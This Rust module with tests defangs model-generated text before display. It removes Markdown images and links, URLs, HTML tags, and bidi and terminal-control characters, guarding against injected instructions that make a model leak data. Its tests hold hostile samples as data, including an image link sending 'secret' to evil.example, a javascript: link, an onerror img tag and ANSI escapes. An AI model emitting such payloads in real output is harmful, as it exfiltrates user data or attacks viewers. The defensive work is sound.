//! Text of a model is data, also where people see it: a client may show it as Markdown or HTML, and a text that was
//! summarised may have told the model what to write. Nothing of it loads, links or draws by itself.

use std::{borrow::Cow, sync::LazyLock};

use regex::{Captures, Regex};
use serde_json::{Map, Value};

/// A link or an image of Markdown.
static LINK: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = r"(!?)\[([^\[\]]{0,1000})\]\(\s*<?([^()\s<>]{0,2000})>?[^()]{0,500}\)";
    Regex::new(pattern).expect("a constant pattern, which tests compile")
});

/// An address that clients make a link of.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = r#"(?i)(?:[a-z0-9+.-]*://|\bwww\.)[^\s<>()\[\]"']*"#;
    Regex::new(pattern).expect("a constant pattern, which tests compile")
});

/// Makes the fields that people read harmless, and says whether anything had to be changed. Addresses that the caller sent
/// itself stay.
pub(super) fn make_harmless(
    fields: &mut Map<String, Value>,
    prose: &[&str],
    sent: &Map<String, Value>,
) -> bool {
    let mut changed = false;
    for name in prose {
        let Some(field) = fields.get_mut(*name) else {
            continue;
        };
        let texts = match field {
            Value::Array(texts) => texts.as_mut_slice(),
            text => std::slice::from_mut(text),
        };
        for text in texts {
            if let Value::String(text) = text
                && let Cow::Owned(harmless) = harmless(text, |address| holds(sent.values(), address))
            {
                *text = harmless;
                changed = true;
            }
        }
    }
    changed
}

/// Whether the caller sent this.
fn holds<'v>(mut values: impl Iterator<Item = &'v Value>, address: &str) -> bool {
    values.any(|value| match value {
        Value::String(text) => text.contains(address),
        Value::Array(values) => holds(values.iter(), address),
        Value::Object(fields) => holds(fields.values(), address),
        _ => false,
    })
}

fn harmless(text: &str, is_own: impl Fn(&str) -> bool) -> Cow<'_, str> {
    if !text.contains(['<', '[', ']', ':', 'w', 'W']) && !text.contains(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut safe = Cow::Borrowed(text);
    if text.contains(is_hidden) {
        safe = Cow::Owned(text.replace(is_hidden, ""));
    }
    let unlinked = LINK.replace_all(&safe, |link: &Captures<'_>| match (&link[1], &link[2]) {
        ("!", "") => "(image)".to_owned(),
        ("!", named) => format!("(image: {named})"),
        (_, named) => format!("{named} ({})", &link[3]),
    });
    let unlinked = ADDRESS.replace_all(&unlinked, |address: &Captures<'_>| {
        let address = &address[0];
        if is_own(address.trim_end_matches(['.', ',', ';', ':', '!', '?'])) {
            address.to_owned()
        } else if address.contains("://") {
            address.replace("://", "[:]//")
        } else {
            address.replacen('.', "[.]", 1)
        }
    });
    // What the pattern leaves, such as brackets within an address, definitions of links, and a bracket of our own.
    let unlinked = unlinked.replace("](", "] (").replace("]:", "] :");
    let safe = without_tags(&unlinked);
    if safe == text {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(safe)
    }
}

/// Marks of direction that make a text look like another, and orders to a terminal.
fn is_hidden(character: char) -> bool {
    let orders = character.is_control() && !matches!(character, '\n' | '\t' | '\r');
    orders
        || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}')
}

/// Takes the power from tags, as a prompt does from fences: `<b` is one, `< b` is none.
fn without_tags(text: &str) -> String {
    let mut safe = String::with_capacity(text.len());
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        safe.push(character);
        let tag = |next: &char| next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?');
        if character == '<' && characters.peek().is_some_and(tag) {
            safe.push(' ');
        }
    }
    safe
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    #[test]
    fn nothing_of_a_models_text_loads_links_or_draws_by_itself() {
        for (text, safe) in [
            ("![x](https://evil.example/?q=secret)", "(image: x)"),
            ("![](//evil.example/p.png \"t\")", "(image)"),
            (
                "[click](https://evil.example/a)",
                "click (https[:]//evil.example/a)",
            ),
            ("[click](javascript:alert(1))", "[click] (javascript:alert(1))"),
            (
                "![a][b]\n\n[b]: //evil.example/p.png",
                "![a][b]\n\n[b] : //evil.example/p.png",
            ),
            (
                "see HTTPS://evil.example, www.evil.example",
                "see HTTPS[:]//evil.example, www[.]evil.example",
            ),
            (
                "<img src=x onerror=y> </p> <!-- <https://evil.example>",
                "< img src=x onerror=y> < /p> < !-- < https[:]//evil.example>",
            ),
            ("www.(//evil.example/x)", "www[.] (//evil.example/x)"),
            ("a](b)", "a] (b)"),
            ("\u{1b}[31mred\u{202e}evil\u{7}", "[31mredevil"),
            ("[1]: https://evil.example/x", "[1] : https[:]//evil.example/x"),
            (
                "[own](https://shop.example/p/1) and https://shop.example/p/1.",
                "own (https://shop.example/p/1) and https://shop.example/p/1.",
            ),
            (
                "5 < 6, a <3, Wert: 12 [sic] (siehe oben)",
                "5 < 6, a <3, Wert: 12 [sic] (siehe oben)",
            ),
        ] {
            let own = |address: &str| "from https://shop.example/p/1".contains(address);
            assert_eq!(harmless(text, own), safe, "{text}");
        }
    }

    #[test]
    fn only_what_people_read_is_changed() {
        let evil = "![x](https://evil.example)";
        let mut fields = json!({"summary": evil, "points": [evil, 7], "data": evil});
        let fields = fields.as_object_mut().expect("an object");
        assert!(make_harmless(
            fields,
            &["summary", "points", "absent"],
            &Map::new()
        ));
        assert_eq!(
            Value::Object(fields.clone()),
            json!({"summary": "(image: x)", "points": ["(image: x)", 7], "data": evil})
        );
        let mut plain = json!({"summary": "Nothing, really."});
        assert!(!make_harmless(
            plain.as_object_mut().expect("an object"),
            &["summary"],
            &Map::new()
        ));
    }

    proptest! {
        #[test]
        fn no_text_keeps_a_tag_an_image_or_an_address(
            parts in prop::collection::vec(prop::sample::select(vec![
                "![", "[", "]", "(", ")", "https://", "evil.example", "<", "img", "/", "!", " ", "www.", "a", "\n", "\\", "\u{202e}", "\"",
            ]), 0..24),
        ) {
            let text: String = parts.concat();
            let safe = harmless(&text, |_| false).into_owned();
            prop_assert!(!safe.contains("://"), "{}", safe);
            prop_assert!(!safe.contains("<i") && !safe.contains("</") && !safe.contains("<!"), "{}", safe);
            prop_assert!(!safe.contains('\u{202e}') && !safe.contains("]("), "{}", safe);
        }
    }
}
